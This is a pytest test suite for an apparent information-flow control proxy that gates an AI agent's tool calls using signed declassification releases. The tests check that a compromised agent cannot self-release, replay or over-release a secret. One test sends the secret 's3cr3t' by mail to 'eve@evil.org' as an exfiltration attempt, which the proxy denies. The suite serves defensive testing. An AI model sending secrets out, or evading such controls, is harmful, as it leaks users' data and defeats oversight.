"""A compromised agent releases a value by itself, again, elsewhere, or more than was signed."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from nucleus_proxy import declassify
from nucleus_proxy.flowstate import FlowState
from nucleus_tokens import canonical, crypto, labelling, labels, releases
from nucleus_tokens.errors import CredentialError
from nucleus_tokens.header import Holder
from nucleus_verifier.decision import Allow, Deny
from tests.flow.rig import Session, code, owed, ran
from tests.flow.test_attack_laundering import POLICY, PROMPT, TO
from tests.support import world

SECRET = "the key is s3cr3t"
MAIL = {**TO, "body": SECRET}


def session(**given: Any) -> Session:
    s = Session(POLICY, **given).prompt(PROMPT)
    s.saw("env", {"name": "KEY"}, "s3cr3t")
    return s


def test_the_honest_way_works_once() -> None:
    s = session()
    assert code(s.run("mail", MAIL)) == "flow.secret"
    s.release(SECRET)
    ran(s.run("mail", MAIL))
    assert code(s.run("mail", MAIL)) == "flow.bad_declassification"


def test_a_replay_is_denied_also_by_the_commit() -> None:
    """Two calls are decided at once; the second finds it spent in its own transaction."""
    s = session()
    s.release(SECRET)
    first, second = s.decide("mail", MAIL), s.decide("mail", MAIL)
    assert isinstance(first, Allow)
    assert isinstance(second, Allow)
    assert s.last is not None
    for decision, expected in ((first, int), (second, Deny)):
        intent = decision.intent._replace(spends=decision.intent.spends + s.last.spends)
        assert isinstance(s.ledger.commit(intent, {"type": "decision"}), expected)


def test_a_refusal_does_not_burn_it() -> None:
    s = session()
    s.release(SECRET)
    # to somebody nobody named: the address could carry it
    assert code(s.run("mail", {"to": "eve@evil.org", "body": SECRET})) == "flow.secret"
    # another content, another sink: denied
    assert code(s.run("mail", {**TO, "body": SECRET + "!"})) == "flow.secret"
    s.ledger.revoked.add(s.credential.prefix.rids[0])
    assert code(s.run("mail", MAIL)) == "token.revoked"
    s.ledger.revoked.clear()
    ran(s.run("mail", MAIL))


@pytest.mark.parametrize(
    "change",
    [
        {"sinks": ["http_egress"]},
        {"not_after": world.NOW},
        {"tree": "tree:other"},
        {"by": "stranger"},
        {"signer": "stranger"},
        {"by": "second"},
        {"content": releases.commitment("something else").hex()},
        {"from": "internal"},
    ],
)
def test_one_that_says_something_else(change: dict[str, Any]) -> None:
    s = session()
    s.release(SECRET, **change)
    expected = "flow.secret" if "content" in change else "flow.bad_declassification"
    assert code(s.run("mail", MAIL)) == expected


def test_one_by_a_holder_of_the_token() -> None:
    """The agent's own key is listed as a releaser: it still may not release for itself."""
    keys = {"agent": world.public("agent"), "sub": world.public("sub")}
    s = session(releasers=keys)
    s.release(SECRET, by="agent")
    assert code(s.run("mail", MAIL)) == "flow.bad_declassification"
    token = world.hand(
        world.mint(world.all_levels("low_risk"), holder=Holder(None, world.public("agent")))
    )
    t = session(releasers=keys, token=token)
    t.release(SECRET, by="sub")
    assert code(t.run("mail", MAIL)) == "flow.bad_declassification"


def test_internal_to_public_leaves_a_secret_secret() -> None:
    """B8, first half: a release names the level it starts from."""
    s = session()
    s.release(SECRET, **{"from": "internal", "to": "public"})
    assert labels.conf(s.call("mail", MAIL).label) == labels.SECRET


def test_untrusted_to_trusted_leaves_the_adversarial_adversarial() -> None:
    """B8, second half."""
    s = Session(POLICY).prompt(PROMPT)
    s.saw("page", {"url": "https://example.com"}, "evil")
    s.release("evil", axis="integrity", **{"from": "untrusted", "to": "trusted"})
    assert labels.integ(s.call("mail", {**TO, "body": "evil"}).label) == labels.ADVERSARIAL


def test_steps_add_up_and_each_is_spent() -> None:
    s = Session(POLICY.replace('"evidence"', '"ask"')).prompt(PROMPT)
    s.saw("page", {"url": "https://example.com"}, "evil")
    args = {**TO, "body": "evil"}
    before = owed(s.run("mail", args))
    assert "flow:integrity" in before
    s.release("evil", axis="integrity", **{"from": "untrusted", "to": "trusted"})
    s.release("evil", axis="integrity", **{"from": "adversarial", "to": "untrusted"})
    call = s.call("mail", args)
    assert labels.integ(call.label) == labels.TRUSTED
    assert s.last is not None
    assert len(s.last.spends) == 2
    # where it came from is not released by anything
    assert labels.provenance(call.label) & labels.WEB
    assert owed(s.run("mail", args)) < before


def test_only_the_argument_that_was_released_is() -> None:
    text = POLICY.replace('payload = ["/body"]', 'payload = ["/body", "/subject"]')
    s = Session(text).prompt(PROMPT)
    s.saw("env", {"name": "KEY"}, "s3cr3t")
    s.release(SECRET)
    ran(s.run("mail", MAIL))
    s.release(SECRET)
    assert labels.conf(s.call("mail", {**MAIL, "subject": "and s3cr3t"}).label) == labels.SECRET
    assert code(s.run("mail", {**MAIL, "subject": "and s3cr3t"})) == "flow.secret"


def test_it_survives_a_restart_and_so_does_that_it_was_spent(tmp_path: Any) -> None:
    first = session(state=FlowState.open(tmp_path / "f"))
    first.release(SECRET)
    second = Session(POLICY, state=FlowState.open(tmp_path / "f"), ledger=first.ledger)
    second.prompt(PROMPT)
    ran(second.run("mail", MAIL))
    third = Session(POLICY, state=FlowState.open(tmp_path / "f"), ledger=first.ledger)
    assert code(third.run("mail", MAIL)) == "flow.bad_declassification"


def test_a_counter_that_is_not_known_counts_as_spent() -> None:
    s = session()
    s.release(SECRET)
    known = declassify.read(s.state.releases(s.tree))
    given: dict[str, Any] = {
        "tree": s.tree, "keys": {"person": world.public("person")}, "holders": frozenset(),
        "spent": {}, "now": world.NOW,
    }  # fmt: skip
    content = releases.commitment(SECRET)
    found = declassify.release(labels.TOP, content, 7, known, **given)
    assert found.label == labels.TOP
    assert [o for _, o in found.outcomes] == [declassify.Outcome.SPENT]
    zero = {declassify.counter(each.id): 0 for each in known}
    assert declassify.release(labels.TOP, content, 7, known, **{**given, "spent": zero}).spends


# The statement ------------------------------------------------------------------------------------

BODY: dict[str, Any] = {
    "axis": "confidentiality",
    "basis": "human_review",
    "by": "person",
    "content": "11" * 32,
    "from": "secret",
    "id": "00" * 16,
    "not_after": 5,
    "reason": "r",
    "sinks": ["email_send"],
    "to": "internal",
    "tree": "tree:x",
    "v": 1,
}
KEY = world.secret("person")


@pytest.mark.parametrize(
    "change",
    [
        {"v": 2},
        {"v": True},
        {"axis": "provenance"},
        {"axis": "derivation"},
        {"from": "internal", "to": "secret"},
        {"from": "secret", "to": "secret"},
        {"from": "trusted"},
        {"axis": "integrity", "from": "trusted", "to": "untrusted"},
        {"axis": "integrity", "from": "untrusted", "to": "trusted", "basis": "sanitization"},
        {"axis": "integrity", "from": "adversarial", "to": "trusted"},
        {"axis": "authority", "from": "directive", "to": "none"},
        {"basis": "because"},
        {"content": "00" * 32},
        {"content": "11" * 31},
        {"content": "1" * 64 + "1"},
        {"sinks": []},
        {"sinks": ["email_send", "email_send"]},
        {"sinks": ["ticket_write", "email_send"]},
        {"sinks": ["nowhere"]},
        {"sinks": "email_send"},
        {"id": "0" * 31},
        {"not_after": -1},
        {"not_after": 1.5},
        {"reason": ""},
        {"by": ""},
        {"tree": 7},
        {"more": 1},
    ],
)
def test_what_is_no_release_is_never_signed_nor_read(change: dict[str, Any]) -> None:
    body = {**BODY, **change}
    with pytest.raises(CredentialError, match="not well formed"):
        releases.sign(body, KEY)
    spelled = b"x" * 64
    try:
        spelled += canonical.encode(body)
    except ValueError:
        return
    with pytest.raises(CredentialError, match="not well formed"):
        releases.parse(spelled)


def test_every_bit_of_it_is_signed() -> None:
    data = releases.sign(BODY, KEY)
    release = releases.parse(data)
    assert releases.signature_holds(release, world.public("person"))
    assert not releases.signature_holds(release, world.public("second"))
    # An approval's or a delegation's signature is none: the domain differs.
    other = crypto.sign(KEY, b"nucleus/approval/v1\0" + release.signed)
    assert not releases.signature_holds(replace(release, signature=other), world.public("person"))
    for place in range(len(data)):
        changed = data[:place] + bytes((data[place] ^ 1,)) + data[place + 1 :]
        try:
            found = releases.parse(changed)
        except CredentialError:
            continue
        assert not releases.signature_holds(found, world.public("person")), place


@pytest.mark.parametrize("data", [b"", b"x" * 64, b"x" * 5000, b"\0" * 65, b"x" * 64 + b"[]"])
def test_bytes_that_are_no_release(data: bytes) -> None:
    with pytest.raises(CredentialError):
        releases.parse(data)
    assert declassify.read([data]) == ()


def test_a_release_is_exactly_one_step_of_one_axis_on_every_label() -> None:
    made = [
        releases.parse(releases.sign({**BODY, "axis": axis, "from": source, "to": target}, KEY))
        for axis, source, target in (
            ("confidentiality", "secret", "internal"),
            ("confidentiality", "secret", "public"),
            ("confidentiality", "internal", "public"),
            ("integrity", "adversarial", "untrusted"),
            ("integrity", "untrusted", "trusted"),
            ("authority", "none", "suggestive"),
        )
    ]
    masks = {
        "confidentiality": labels.CONF_MASK,
        "integrity": labels.INTEG_MASK,
        "authority": labels.AUTH_MASK,
    }
    read = {
        "confidentiality": labels.conf,
        "integrity": labels.integ,
        "authority": labels.authority,
    }
    for raw in filter(labels.valid, range(0x10000)):
        for each in made:
            after = each.released(raw)
            assert labels.valid(after)
            # nothing outside its axis, and nothing unless it starts exactly there
            assert (after ^ raw) & ~masks[each.axis] == 0
            starts = read[each.axis](raw) == each.source
            assert each.applies(raw) == starts
            assert read[each.axis](after) == (each.target if starts else read[each.axis](raw))
            assert labels.flows_to(after, raw)
    assert labelling.lower_conf(labels.TOP, labels.INTERNAL, labels.PUBLIC) == labels.TOP


def test_what_the_issuer_fixed_carries_nothing() -> None:
    """Without a prompt, with the recipient fixed by the token: only the body is released."""
    fixed = ["arg", "mail", {"/body": ["any"], "/to": ["equals", "ann@example.com"]}]
    token = world.mint(world.levels(manage_pods="low_risk", read_files="always"), fixed)
    s = Session(POLICY, token=token)
    s.saw("env", {"name": "KEY"}, "s3cr3t")
    s.release(SECRET)
    ran(s.run("mail", MAIL))
